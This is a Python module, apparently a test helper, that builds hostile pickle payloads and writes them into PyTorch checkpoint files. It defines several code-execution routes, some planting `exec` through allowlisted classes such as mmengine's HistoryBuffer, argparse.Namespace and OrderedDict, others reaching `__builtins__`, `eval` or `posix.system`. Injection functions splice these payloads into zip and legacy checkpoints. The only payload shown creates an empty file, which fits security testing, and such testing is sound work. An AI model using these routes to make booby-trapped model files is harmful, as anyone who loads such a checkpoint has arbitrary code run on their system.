"""Pickles made by hand that run code under Python's own unpickler, and files around them."""

import io
import pickle
import struct
import zipfile
from pathlib import Path

import torch

HISTORY = ('mmengine.logging.history_buffer', 'HistoryBuffer')


def name(module: str, attribute: str) -> bytes:
    return b'c' + f'{module}\n{attribute}\n'.encode()


def text(value: str) -> bytes:
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def call(function: bytes, *args: bytes) -> bytes:
    return function + b'(' + b''.join(args) + b'tR'


def attribute(owner: bytes, key: str) -> bytes:
    return call(name('builtins', 'getattr'), owner, text(key))


def by_planted_builtins(bag: bytes, code: str) -> bytes:
    """Reach the builtins from an allowed class's method, fetch `exec` from them and plant it.

    Giving an object the builtins as its state makes them attributes, which `getattr` then fetches;
    a history whose ``__setstate__`` is `exec` runs the next state that it is given.
    """
    builtins = attribute(attribute(name(*HISTORY), '__init__'), '__builtins__')
    execute = call(name('builtins', 'getattr'), bag + builtins + b'b', text('exec'))
    history = call(name(*HISTORY))
    planted = b'}' + text('__setstate__') + execute + b's'
    return history + planted + b'b' + text(code) + b'b'


#: Name -> function of the code to run that gives a pickle's operations, leaving one value.
ROUTES = {
    'planted by Namespace': lambda code: by_planted_builtins(
        call(name('argparse', 'Namespace')), code),
    'planted by HistoryBuffer': lambda code: by_planted_builtins(call(name(*HISTORY)), code),
    'planted by OrderedDict': lambda code: by_planted_builtins(
        call(name('collections', 'OrderedDict')), code),
    'getattr of globals': lambda code: call(
        attribute(attribute(attribute(name(*HISTORY), '__init__'), '__globals__'), 'get'),
        text('__builtins__')) + text('unused') + b'0' + b'0' + call(
            name('builtins', 'exec'), text(code)),
    'exec': lambda code: call(name('builtins', 'exec'), text(code)),
    'eval by its names on the stack': lambda code: (
        text('builtins') + text('eval') + b'\x93' + b'(' + text(f'exec({code!r})') + b'tR'),
    'apply of a class': lambda code: b'(' + text(code) + b'ibuiltins\nexec\n',
    'system': lambda code: call(name('posix', 'system'), text(f'python3 -c "{code}"')),
}


def touch(path: Path) -> str:
    """Code that makes a file."""
    return f"open('{path}', 'w').close()"


def pickled(operations: bytes) -> bytes:
    return b'\x80\x04' + operations + b'.'


def in_front_of(operations: bytes, content: bytes) -> bytes:
    """The operations, their value dropped, and then a pickle's own."""
    start = 2 if content[:1] == b'\x80' else 0
    return content[:start].replace(b'\x80\x02', b'\x80\x04') + operations + b'0' + content[start:]


def zip_with_pickle(path: Path, change, source: Path | io.BytesIO) -> None:
    """Write a copy of a zip checkpoint whose pickle is changed."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, 'w') as new:
        for info in old.infolist():
            data = old.read(info)
            new.writestr(info.filename, change(data) if info.filename.endswith('data.pkl')
                         else data)


def legacy_with_pickle(path: Path, change, content: dict) -> None:
    """Write a file of the older form whose main pickle is changed."""
    buffer = io.BytesIO()
    torch.save(content, buffer, _use_new_zipfile_serialization=False)
    buffer.seek(0)
    heads = []
    for _ in range(3):  # magic number, version, system
        start = buffer.tell()
        pickle.load(buffer)
        heads.append(buffer.getvalue()[start:buffer.tell()])
    start = buffer.tell()
    unpickler = pickle.Unpickler(buffer)
    unpickler.persistent_load = lambda key: torch.storage.TypedStorage(
        key[4], dtype=torch.float32, device='cpu')
    unpickler.load()
    end = buffer.tell()
    data = buffer.getvalue()
    path.write_bytes(b''.join(heads) + change(data[start:end]) + data[end:])


def zip_of(path: Path, operations: bytes) -> None:
    """Write a file whose pickle is made of these operations."""
    buffer = io.BytesIO()
    torch.save({'w': torch.ones(2)}, buffer)
    zip_with_pickle(path, lambda old: pickled(operations), buffer)
